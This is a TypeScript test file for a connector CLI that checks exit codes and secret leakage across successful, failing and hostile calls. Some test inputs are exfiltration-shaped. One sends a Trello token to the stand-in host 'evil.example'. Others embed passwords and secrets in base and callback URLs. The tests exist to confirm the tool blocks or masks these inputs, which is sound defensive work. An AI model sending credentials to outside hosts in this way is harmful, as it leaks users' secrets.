/** The CLI run in process: calls that succeed and fail, hostile addresses, usage errors. */
import { readFile, stat } from "node:fs/promises";
import { expect, it } from "vitest";
import { runCli } from "../../helpers/cli.js";
import { mask } from "../markers.js";
import { closedPort } from "../secret-leak-helpers.js";
import { BOARD, expectNoLeaks, M, needles } from "./harness.js";
import {
  callArgv,
  webhookServeArgv,
  csUrl,
  marketoUrl,
  plainFile,
  record,
  revokedFile,
  storeFile,
  trelloUrl,
  worldnewsUrl,
} from "./cli-setup.js";

export function cliInProcessFlows(): void {
  it(
    "in process: calls that succeed and fail, hostile --base-url, the guard, auth " +
      "trello-url, webhook serve usage errors",
    async () => {
      const closed = await closedPort();
      const runs: Array<[string, string[], number]> = [
        ["call trello ok", callArgv("trello_get_board", { id: BOARD }, plainFile, trelloUrl), 0],
        ["call worldnews ok", callArgv("worldnews_search_news", { text: "leak scan" }, plainFile, worldnewsUrl), 0],
        [
          "call marketo ok",
          callArgv(
            "marketo_get_leads",
            { filterType: "email", filterValues: ["ada@example.com"] },
            plainFile,
            marketoUrl,
          ),
          0,
        ],
        ["call trello revoked", callArgv("trello_get_board", { id: BOARD }, revokedFile, trelloUrl), 1],
        [
          "call worldnews wrong key",
          callArgv("worldnews_search_news", { text: "leak scan" }, revokedFile, worldnewsUrl),
          1,
        ],
        [
          "call marketo wrong secret",
          callArgv(
            "marketo_get_leads",
            { filterType: "email", filterValues: ["x@example.com"] },
            revokedFile,
            marketoUrl,
          ),
          1,
        ],
        ["call closed port", callArgv("trello_get_board", { id: BOARD }, plainFile, `http://127.0.0.1:${closed}`), 1],
        [
          "call userinfo base",
          callArgv(
            "trello_get_board",
            { id: BOARD },
            plainFile,
            `http://u:${M.userinfoPassword.value}@127.0.0.1:${closed}`,
          ),
          -1,
        ],
        [
          "call marketo userinfo base",
          callArgv(
            "marketo_get_leads",
            { filterType: "email", filterValues: ["ada@example.com"] },
            plainFile,
            `http://u:${M.userinfoPassword.value}@127.0.0.1:${closed}`,
          ),
          -1,
        ],
        [
          "call ftp base",
          callArgv("trello_get_board", { id: BOARD }, plainFile, `ftp://u:${M.userinfoPassword.value}@127.0.0.1`),
          2,
        ],
        [
          "call guard",
          callArgv(
            "trello_api_call",
            { method: "GET", endpoint: `https://evil.example/?token=${M.trelloToken.value}` },
            plainFile,
            trelloUrl,
          ),
          1,
        ],
        [
          "call reserved query",
          callArgv(
            "trello_api_call",
            {
              method: "GET",
              endpoint: "/1/members/me",
              query_parameters: { token: M.trelloToken.value },
            },
            plainFile,
            trelloUrl,
          ),
          1,
        ],
        [
          "call invalid input",
          callArgv("trello_get_card", { id: 5, key: M.trelloApiKey.value }, plainFile, trelloUrl),
          1,
        ],
        ["call contentsnare store renewal", callArgv("contentsnare_get_me", {}, storeFile, csUrl), 0],
        [
          "call unknown connection",
          [
            "call",
            "trello_get_board",
            "--input",
            JSON.stringify({ id: BOARD }),
            "--connections",
            plainFile,
            "--connection",
            "nope",
          ],
          2,
        ],
        ["auth missing app name", ["auth", "trello-url", "--key", M.trelloApiKey.value], 2],
        ["auth key without flag", ["auth", "trello-url", "--app-name", "Leak Scan", M.trelloApiKey.value], 2],
        ["auth key as flag value", ["auth", "trello-url", "--app-name", "--key", M.trelloApiKey.value], 2],
        ["webhook serve no callback", webhookServeArgv(), 2],
        [
          "webhook serve bad port",
          [
            "webhook",
            "serve",
            "--port",
            "x",
            "--secret",
            M.trelloWebhookSecret.value,
            "--callback-url",
            "https://h.example.com/t",
          ],
          2,
        ],
        [
          "webhook serve bad callback",
          webhookServeArgv("--callback-url", `ftp://${M.trelloWebhookSecret.value}`, "--host", "127.0.0.1"),
          2,
        ],
        [
          "webhook serve secret without flag",
          ["webhook", "serve", "--port", "0", "--callback-url", "https://h.example.com/t", M.trelloWebhookSecret.value],
          2,
        ],
      ];
      for (const [name, argv, code] of runs) {
        const r = record(`cli ${name}`, await runCli(...argv));
        if (code >= 0) expect(r.code, `${name}: ${mask(r.stderr || r.stdout, needles()).slice(0, 400)}`).toBe(code);
        else expect(r.code, name).not.toBe(0);
      }
      // The store took the rotated tokens and is still 0600.
      expect((await stat(storeFile)).mode & 0o777).toBe(0o600);
      expect(JSON.parse(await readFile(storeFile, "utf8")).connections.contentsnare.snare.fields.refreshToken).not.toBe(
        M.contentsnareRefreshToken.value,
      );

      // auth trello-url prints the key in the authorize address (its purpose), and nowhere else.
      const ok = await runCli("auth", "trello-url", "--key", M.trelloApiKey.value, "--app-name", "Leak Scan");
      expect(ok.code).toBe(0);
      const authorize = new URL(ok.stdout.trim());
      expect(authorize.searchParams.get("key")).toBe(M.trelloApiKey.value);
      authorize.searchParams.delete("key");
      record("cli auth trello-url ok (key parameter removed)", { ...ok, stdout: authorize.toString() });
      expectNoLeaks();
    },
  );
}
